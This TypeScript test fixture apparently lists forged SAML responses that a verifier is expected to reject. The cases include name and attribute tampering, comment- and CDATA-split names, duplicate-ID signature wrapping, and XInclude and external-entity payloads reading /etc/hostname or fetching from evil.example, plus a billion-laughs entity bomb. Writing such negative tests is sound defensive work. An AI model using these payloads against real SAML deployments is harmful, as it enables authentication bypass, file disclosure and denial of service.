import { signResponse } from '../saml-forge.ts';
import {
  base64,
  declarations,
  type Forgery,
  noCertificate,
  notOne,
  otherKind,
  put,
  type Workshop,
} from './workshop.ts';

/** What somebody changes in a good one. */
export function changedContents({ key, good, changed, end }: Workshop): Forgery[] {
  return [
    ['another name', 'signature', noCertificate, changed(put('>ada<', '>eve<'))],
    ['a name in other case', 'signature', noCertificate, changed(put('>ada<', '>Ada<'))],
    [
      'a name in another normal form',
      'signature',
      noCertificate,
      base64(put('>\u00c5da<', '>A\u030ada<')(signResponse(key, put('>ada<', '>\u00c5da<')(good)))),
    ],
    ['a name with a space that XML does not know', 'signature', noCertificate, changed(put('>ada<', '>ada\u00a0<'))],
    ['a name with an element in it', 'signature', noCertificate, changed(put('>ada<', '>eve<saml:x>ada</saml:x><'))],
    [
      'a name that includes a file',
      'signature',
      noCertificate,
      changed(
        put(
          '>ada<',
          '><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/><',
        ),
      ),
    ],
    [
      'a second name',
      'signature',
      noCertificate,
      changed(put('<saml:NameID', '<saml:NameID>eve</saml:NameID><saml:NameID')),
    ],
    ['another attribute', 'signature', noCertificate, changed(put('ada@example.com', 'eve@example.com'))],
    [
      'more time',
      'signature',
      noCertificate,
      changed(put(`NotOnOrAfter="${end}">`, 'NotOnOrAfter="2099-01-01T00:00:00Z">')),
    ],
    [
      'a base that is another',
      'signature',
      noCertificate,
      changed(put('<saml:Assertion ', '<saml:Assertion xml:base="https://evil.example/" ')),
    ],
    [
      'a prefix that means something else',
      'signature',
      noCertificate,
      changed(put('<saml:Subject>', '<saml:Subject xmlns:saml="urn:evil">')),
    ],
    [
      'an assertion of a namespace that only looks alike',
      'form',
      notOne,
      changed((xml) =>
        xml.replaceAll('"urn:oasis:names:tc:SAML:2.0:assertion"', '"urn:oasis:names:tc:SAML:2.0:assertion "'),
      ),
    ],
    [
      'an assertion by SAML 1.1',
      'form',
      notOne,
      changed((xml) => xml.replaceAll('SAML:2.0:assertion', 'SAML:1.0:assertion')),
    ],
    [
      'a prefix that nobody declared',
      'form',
      'no well-formed XML',
      changed(put('<saml:Subject>', '<saml:Subject evil:a="b">')),
    ],
    [
      'an attribute twice',
      'form',
      'no well-formed XML',
      changed(put(' Version="2.0" IssueInstant', ' Version="2.0" ID="_response" IssueInstant')),
    ],
    [
      'an ID that stands twice',
      'signature',
      'an ID stands twice',
      changed(put('<samlp:Status>', '<samlp:Status ID="_assertion">')),
    ],
    [
      'an ID in other case that stands twice',
      'signature',
      'an ID stands twice',
      changed(put('<samlp:Status>', '<samlp:Status Id="_assertion">')),
    ],
    [
      'an ID in lower case that stands twice',
      'signature',
      'an ID stands twice',
      changed(put('<samlp:Status>', '<samlp:Status id="_assertion">')),
    ],
    [
      'an ID with a prefix that stands twice',
      'signature',
      'an ID stands twice',
      changed(put('<samlp:Status>', '<samlp:Status xmlns:e="urn:evil" e:ID="_assertion">')),
    ],
    [
      'an xml:id that stands twice',
      'signature',
      'an ID stands twice',
      changed(put('<samlp:Status>', '<samlp:Status xml:id="_assertion">')),
    ],
    ['no ID', 'signature', otherKind, changed(put(' ID="_assertion"', ''))],
    ['an ID by another name', 'signature', otherKind, changed(put(' ID="_assertion"', ' Id="_assertion"'))],
  ];
}

/** Comments, sections, instructions, document types and entities. */
export function textsWithin({ key, good, changed, audience, entityId }: Workshop): Forgery[] {
  return [
    [
      'a comment in the name',
      'form',
      declarations,
      base64(put('>ada.evil<', '>ada<!---->.evil<')(signResponse(key, put('>ada<', '>ada.evil<')(good)))),
    ],
    ['a comment in the audience', 'form', declarations, changed(put(`${audience}</`, `<!-- -->${audience}</`))],
    ['a comment in the issuer', 'form', declarations, changed(put(`${entityId}</`, `${entityId}<!-- --></`))],
    ['a comment in the digest', 'form', declarations, changed(put('<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'))],
    ['a comment before the response', 'form', declarations, changed((xml) => `<!-- -->${xml}`)],
    ['a section in the name', 'form', declarations, changed(put('>ada<', '><![CDATA[ada]]><'))],
    [
      'a section that cuts the name',
      'form',
      declarations,
      base64(put('>ada.evil<', '>ada<![CDATA[]]>.evil<')(signResponse(key, put('>ada<', '>ada.evil<')(good)))),
    ],
    ['an instruction in the name', 'form', declarations, changed(put('>ada<', '>a<?x ?>da<'))],
    [
      'an instruction by the name of a declaration',
      'form',
      declarations,
      changed(put('>ada<', '>a<?xml version="1.0"?>da<')),
    ],
    ['a style sheet', 'form', declarations, changed((xml) => `<?xml-stylesheet href="https://evil.example/"?>${xml}`)],
    ['a document type', 'form', declarations, changed((xml) => `<!DOCTYPE Response>${xml}`)],
    ['a document type in other case', 'form', declarations, changed((xml) => `<!doctype Response>${xml}`)],
    [
      'a document type from elsewhere',
      'form',
      declarations,
      changed((xml) => `<!DOCTYPE Response SYSTEM "https://evil.example/x.dtd">${xml}`),
    ],
    [
      'a document type that makes another attribute an ID',
      'form',
      declarations,
      changed((xml) => `<!DOCTYPE Response [<!ATTLIST Response evil ID #IMPLIED>]>${xml}`),
    ],
    [
      'an entity of one file',
      'form',
      declarations,
      changed((xml) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>${put('>ada<', '>&e;<')(xml)}`),
    ],
    [
      'an entity of parameters',
      'form',
      declarations,
      changed((xml) => `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/"> %e;]>${xml}`),
    ],
    [
      'a billion laughs',
      'form',
      declarations,
      changed(
        (xml) =>
          `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.replace(/./g, (name) => `<!ENTITY ${name} "${`&${String.fromCharCode(name.charCodeAt(0) - 1)};`.repeat(10)}">`)}]>${put('>ada<', '>&j;<')(xml)}`,
      ),
    ],
    ['an entity that nobody declared', 'form', 'no well-formed XML', changed(put('>ada<', '>&evil;<'))],
    ['an entity that looks like the name', 'signature', noCertificate, changed(put('>ada<', '>&#101;ve<'))],
  ];
}
